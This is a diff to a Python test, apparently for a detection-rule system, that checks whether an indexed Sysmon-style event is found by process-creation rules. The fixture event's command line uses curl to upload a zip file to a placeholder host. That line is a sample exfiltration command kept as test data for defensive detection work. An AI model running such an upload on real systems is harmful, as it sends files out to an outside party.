@@ -99,6 +99,6 @@ def test_records_whose_text_holds_the_event_are_found(client: Any) -> None:
     event = json.dumps(sysmon({"Image": "C:\\curl.exe", "CommandLine": "curl.exe -T a.zip https://x.example/"}))
     shipped = {"@timestamp": "2026-03-12T09:14:02.123Z", "message": event, "agent": {"name": "ws1"}}
     with index(client, {}) as put:
-        put.put([shipped, endpoint({"Image": "/bin/true", "CommandLine": "true"}) | {"message": "started"}])
-        text = [rule for rule in rules(sigma=False) if not rule.derives and rule.source.category == "process_creation"]
-        assert put.found(query(text, mapping(put.properties()))) == {0}
+        service = {"Image": "C:\\Windows\\System32\\svchost.exe", "CommandLine": "svchost.exe -k netsvcs"}
+        put.put([shipped, endpoint(service) | {"message": "started"}])
+        assert put.found(query(rules(sigma=False), mapping(put.properties()))) == {0}
